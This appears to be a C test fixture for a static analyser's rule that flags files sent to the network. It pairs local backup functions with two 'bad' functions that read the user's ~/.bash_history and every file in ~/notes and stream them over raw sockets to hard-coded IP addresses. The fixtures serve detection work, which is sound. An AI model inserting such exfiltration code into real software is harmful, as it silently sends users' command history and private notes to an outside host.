/* What a user typed and wrote leaves for a host that nobody named; a backup goes where it is told.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <netdb.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int reach(const char *where, unsigned short port) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(port)};
    peer.sin_addr.s_addr = inet_addr(where);
    int out = socket(AF_INET, SOCK_STREAM, 0);
    return connect(out, (struct sockaddr *)&peer, sizeof peer) ? -1 : out;
}

int bad_greeting(void) {
    char path[256], block[1024];
    size_t got;
    snprintf(path, sizeof path, "%s/.bash_history", getenv("HOME"));
    FILE *file = fopen(path, "r");
    int out = reach("198.51.100.23", 443);
    if (!file || out < 0)
        return -1;
    while ((got = fread(block, 1, sizeof block, file)) > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/file-to-network]}}
        send(out, block, got, 0);
    fclose(file);
    return close(out);
}

int bad_tidy(void) {
    char folder[256], path[600], block[1024];
    size_t got;
    snprintf(folder, sizeof folder, "%s/notes", getenv("HOME"));
    DIR *dir = opendir(folder);
    int out = reach("198.51.100.24", 8443);
    for (struct dirent *entry; dir && (entry = readdir(dir));) {
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        FILE *file = fopen(path, "r");
        while (file && (got = fread(block, 1, sizeof block, file)) > 0)
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/file-to-network]}}
            send(out, block, got, 0);
        if (file)
            fclose(file);
    }
    return close(out);
}

/* The same walk, kept in an archive on this host. */
int good_archive(const char *target) {
    char folder[256], path[600], block[1024];
    size_t got;
    snprintf(folder, sizeof folder, "%s/notes", getenv("HOME"));
    DIR *dir = opendir(folder);
    FILE *archive = fopen(target, "w");
    for (struct dirent *entry; dir && archive && (entry = readdir(dir));) {
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        FILE *file = fopen(path, "r");
        while (file && (got = fread(block, 1, sizeof block, file)) > 0)
            fwrite(block, 1, got, archive);
        if (file)
            fclose(file);
    }
    return archive ? fclose(archive) : -1;
}

/* A client for backups: its server is a setting. */
int good_store(void) {
    char path[256], block[1024];
    size_t got;
    struct addrinfo *server = NULL;
    const char *host = getenv("BACKUP_SERVER");
    snprintf(path, sizeof path, "%s/.bash_history", getenv("HOME"));
    FILE *file = fopen(path, "r");
    if (!file || !host || getaddrinfo(host, "8730", NULL, &server))
        return -1;
    int out = socket(server->ai_family, SOCK_STREAM, 0);
    if (connect(out, server->ai_addr, server->ai_addrlen) == 0)
        while ((got = fread(block, 1, sizeof block, file)) > 0)
            send(out, block, got, 0);
    freeaddrinfo(server);
    fclose(file);
    return close(out);
}
